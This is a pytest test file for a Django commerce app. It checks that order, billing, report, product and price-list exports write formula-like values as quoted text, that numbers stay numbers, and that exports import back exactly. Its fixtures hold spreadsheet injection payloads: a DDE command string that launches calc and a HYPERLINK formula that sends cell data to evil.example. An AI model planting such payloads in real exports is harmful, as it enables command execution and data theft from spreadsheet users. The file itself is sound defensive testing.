"""Formula injection: values that start a formula (a PO number, a company name
from an anonymous signup, a product title) come out of every export as text,
never as a live formula; numbers stay numbers; our own export imports back
exactly."""

import csv
import io
from decimal import Decimal

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from oscar.core.loading import get_model

from catalog.exports import export_rows
from commerce.billing.invoicing import invoice_for_shipped
from commerce.fulfilment.transitions import order_set_status
from commerce.imports.models import ImportJob
from tests import factories, helpers

Product = get_model("catalogue", "Product")

pytestmark = pytest.mark.django_db

PO = "=cmd|' /C calc'!A0"
COMPANY = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def assert_no_formula(rows) -> None:
    for row in rows:
        for cell in row:
            if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
                try:
                    Decimal(cell)  # a plain number such as -12.50 is fine
                except ArithmeticError:
                    pytest.fail(f"live formula in an export: {cell!r}")


def read_csv(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def desk():
    client = Client(HTTP_HOST=settings.STOREFRONT_HOST)
    client.force_login(factories.StaffFactory())
    return client


@pytest.fixture
def hostile_order():
    company = factories.business(COMPANY)
    buyer = factories.MembershipFactory(company=company, role="buyer").user
    product = factories.ProductFactory(title="@SUM(1+1)", stock=100, stock__price="100.00")
    order = helpers.place_portal_order(company, buyer, product, 2, po_number=PO).order
    order_set_status(order=order, status="Shipped")
    invoice_for_shipped(order_id=order.pk)
    return order


def test_the_order_desk_csv_writes_a_hostile_po_number_and_company_as_text(desk, hostile_order):
    rows = read_csv(desk.get("/dashboard/orders/", {"response_format": "csv"}))

    header, row = rows[0], rows[1]
    assert row[header.index("PO number")] == "'" + PO
    assert row[header.index("Company")] == "'" + COMPANY
    assert_no_formula(rows)


def test_the_aging_csv_writes_a_hostile_company_as_text(desk, hostile_order):
    rows = read_csv(desk.get("/dashboard/billing/aging/", {"format": "csv"}))

    assert rows[1][0] == "'" + COMPANY
    assert_no_formula(rows)


@pytest.mark.parametrize("slug", ["companies", "products", "exposure", "aging"])
def test_the_report_csvs_write_hostile_names_as_text(desk, hostile_order, slug):
    today = timezone.localdate().isoformat()
    rows = read_csv(
        desk.get(
            f"/dashboard/sales-reports/{slug}/",
            {"date_from": today, "date_to": today, "format": "csv"},
        )
    )

    assert len(rows) > 1
    assert {"'" + COMPANY, "'@SUM(1+1)"} & {cell for row in rows for cell in row}
    assert_no_formula(rows)


@pytest.fixture
def hostile_catalog():
    tools = factories.ProductClassFactory(name="Tools", slug="tools")
    central = factories.PartnerFactory(code="central", name="Central")
    for sku, title, description in [
        ("-X1", "=1+2", "+49 30 1234 (call us)"),
        ("X2", "'=already quoted", "@SUM(A1:A9)"),
        ("X3", "\tTabbed", "-12.50"),
    ]:
        factories.ProductFactory(
            upc=sku,
            title=title,
            description=description,
            product_class=tools,
            stock=3,
            stock__price="9.50",
            stock__partner=central,
        )


def test_the_product_csv_export_neutralises_and_imports_back_exactly(
    desk, committed, hostile_catalog
):
    before = {p.upc: (p.title, p.description) for p in Product.objects.all()}
    response = desk.get("/dashboard/catalogue/products/export/")
    body = b"".join(response.streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode())))
    header = rows[0]
    by_sku = {row[0]: dict(zip(header, row, strict=True)) for row in rows[1:]}

    assert_no_formula(rows)
    assert by_sku["'-X1"]["title"] == "'=1+2"
    assert by_sku["X2"]["title"] == "''=already quoted"
    assert by_sku["X2"]["description"] == "'@SUM(A1:A9)"
    assert by_sku["X3"]["description"] == "-12.50"  # a number stays a number

    Product.objects.update(title="changed", description="changed")
    job = import_file(desk, committed, body, "products.csv")

    assert job.status == "done", job.errors
    assert {p.upc: (p.title, p.description) for p in Product.objects.all()} == before
    assert "".join(export_rows()).encode() == body


def test_the_product_xlsx_export_has_no_formula_and_imports_back_exactly(
    desk, committed, hostile_catalog
):
    from openpyxl import load_workbook

    before = {p.upc: (p.title, p.description) for p in Product.objects.all()}
    workbook = desk.get("/dashboard/catalogue/products/export/", {"format": "xlsx"}).content
    sheet = load_workbook(io.BytesIO(workbook)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert not [c.value for c in cells if c.data_type == "f"]
    assert_no_formula([[c.value for c in cells]])

    Product.objects.update(title="changed", description="changed")
    job = import_file(desk, committed, workbook, "products.xlsx")

    assert job.status == "done", job.errors
    assert {p.upc: (p.title, p.description) for p in Product.objects.all()} == before


def test_the_price_list_export_writes_a_hostile_sku_as_text(desk):
    product = factories.ProductFactory(upc="+SUM(9)", stock=False)
    price_list = factories.PriceListFactory(name="Gold")
    factories.price(price_list, product, "12.50")

    rows = read_csv(desk.get(f"/dashboard/pricing/lists/{price_list.pk}/export.csv"))

    assert rows[1][:3] == ["'+SUM(9)", "1", "12.50"]
    assert_no_formula(rows)


def test_numbers_are_never_neutralised():
    from commerce.core.exports import cell_neutralize

    assert cell_neutralize(Decimal("-12.50")) == Decimal("-12.50")
    assert cell_neutralize(-3) == -3
    assert cell_neutralize("-12.50") == "-12.50"
    assert cell_neutralize("-") == "'-"
    assert cell_neutralize("\r=1") == "'\r=1"


def import_file(client, committed, content: bytes, name: str) -> ImportJob:
    with committed():
        client.post(
            "/dashboard/catalogue/products/import/",
            {"file": SimpleUploadedFile(name, content, "text/csv")},
        )
    job = ImportJob.objects.latest("pk")
    with committed():
        client.post(f"/dashboard/imports/{job.pk}/apply/")
    job.refresh_from_db()
    return job
